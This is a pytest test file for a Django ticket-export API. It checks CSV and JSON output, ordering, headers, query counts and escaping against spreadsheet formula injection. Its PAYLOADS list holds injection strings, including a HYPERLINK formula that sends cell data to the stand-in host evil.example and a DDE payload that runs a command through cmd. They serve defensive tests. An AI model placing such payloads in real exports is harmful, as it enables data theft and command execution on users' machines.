"""The list as a file: exactly what the filters show, in a form that no spreadsheet runs."""

import csv
import json
from datetime import UTC, datetime
from io import StringIO
from typing import Any

import pytest
from django.db import connection
from hypothesis import given
from hypothesis import strategies as st
from pytest_django import DjangoAssertNumQueries
from rest_framework.test import APIClient

from tickets.export import BATCH
from tickets.models import Ticket
from tickets.spreadsheets import FORMULA, harmless
from tickets.tests.factory import BY_MODEL, make_ticket

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1;"Click")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\uff1d1+1",
    "'=1+1",
    "''=1+1",
]
TEXTS = st.text(alphabet=st.sampled_from(f"'{FORMULA}ab "), max_size=4)


def export(api: APIClient, format_name: str, **query: Any) -> str:
    response = api.get("/api/tickets/export/", {"format": format_name, **query})
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.django_db
@pytest.mark.parametrize("ordering", ["-created_at", "created_at", "-priority"])
def test_both_files_have_what_the_list_has_in_its_order(api: APIClient, ordering: str) -> None:
    for priority in ("low", "critical", "high"):
        make_ticket(f"wanted {priority}", status="closed", priority=priority)
    make_ticket("wanted, but open")
    make_ticket("closed", status="closed")
    query = {"status": "closed,resolved", "search": "wanted", "ordering": ordering}
    listed = api.get("/api/tickets/", query).json()["results"]
    assert len(listed) == 3
    assert json.loads(export(api, "json", **query)) == listed
    assert [row["title"] for row in rows(export(api, "csv", **query))] == [one["title"] for one in listed]


@pytest.mark.django_db
def test_a_line_of_csv_has_the_ticket_and_its_labels(api: APIClient) -> None:
    moment = datetime(2026, 3, 1, 12, 30, tzinfo=UTC)
    description = 'Es "hängt",\r\nleider; 日本'
    ticket = make_ticket("Überweisung 🙂", description, created_at=moment, **BY_MODEL.as_fields())
    text = export(api, "csv")
    assert text.startswith("\ufeffid,title,description,")
    assert rows(text) == [
        {
            "id": str(ticket.pk),
            "title": "Überweisung 🙂",
            "description": description,
            "category": "general",
            "priority": "medium",
            "status": "open",
            "created_at": "2026-03-01T12:30:00+00:00",
            "updated_at": "2026-03-01T12:30:00+00:00",
            "category_set_by_person": "False",
            "priority_set_by_person": "False",
            "suggested_category": "billing",
            "suggested_priority": "high",
            "suggestion_source": "llm",
            "suggestion_model": "some-model:4b",
        }
    ]


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_a_text_in_csv_and_itself_in_json(api: APIClient, payload: str) -> None:
    make_ticket(payload, payload)
    [row] = rows(export(api, "csv"))
    assert row["title"] == row["description"] == f"'{payload}"
    [ticket] = json.loads(export(api, "json"))
    assert ticket["title"] == ticket["description"] == payload


@given(TEXTS, TEXTS)
def test_no_formula_is_left_and_no_two_texts_become_the_same(one: str, other: str) -> None:
    assert not harmless(one).startswith(tuple(FORMULA))
    assert (harmless(one) == harmless(other)) == (one == other)


@pytest.mark.django_db
def test_without_a_match_there_is_a_header_or_an_empty_array(api: APIClient) -> None:
    assert len(export(api, "csv", search="nothing").splitlines()) == 1
    assert json.loads(export(api, "json", search="nothing")) == []


@pytest.mark.django_db
def test_the_file_has_a_date_and_is_kept_by_no_cache(api: APIClient, settings: Any) -> None:
    settings.TIME_ZONE = "UTC"
    response = api.get("/api/tickets/export/", {"format": "csv"}, headers={"Accept": "text/csv"})
    today = datetime.now(UTC).date().isoformat()
    assert response.headers["Content-Disposition"] == f'attachment; filename="hushdesk-tickets-{today}.csv"'
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Cache-Control"] == "no-store"


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("query", "field"),
    [
        ({}, "format"),
        ({"format": "xlsx"}, "format"),
        ({"format": "csv", "status": "lost"}, "status"),
        ({"format": "csv", "ordering": "title"}, "ordering"),
    ],
)
def test_what_cannot_be_exported_is_an_error_that_names_the_parameter(
    api: APIClient, query: dict[str, str], field: str
) -> None:
    response = api.get("/api/tickets/export/", query)
    assert response.status_code == 400
    assert list(response.json()) == [field]


@pytest.mark.django_db
@pytest.mark.parametrize("format_name", ["csv", "json"])
def test_reads_any_number_of_tickets_by_one_query(
    api: APIClient, django_assert_num_queries: DjangoAssertNumQueries, format_name: str
) -> None:
    Ticket.objects.bulk_create(Ticket(title="One", description="of many") for _ in range(2 * BATCH + 1))
    with django_assert_num_queries(1):
        text = export(api, format_name)
    assert text.count("of many") == 2 * BATCH + 1


@pytest.mark.django_db(transaction=True)
def test_shows_the_tickets_of_one_moment_and_holds_no_transaction(api: APIClient) -> None:
    for _ in range(2 * BATCH + 1):
        make_ticket("as it was")
    response = api.get("/api/tickets/export/", {"format": "json"})
    pieces = iter(response.streaming_content)  # type: ignore[attr-defined]
    beginning = next(pieces)
    assert connection.get_autocommit()
    Ticket.objects.update(title="changed meanwhile")
    found = json.loads(beginning + b"".join(pieces))
    assert {ticket["title"] for ticket in found} == {"as it was"}
    assert len(found) == 2 * BATCH + 1
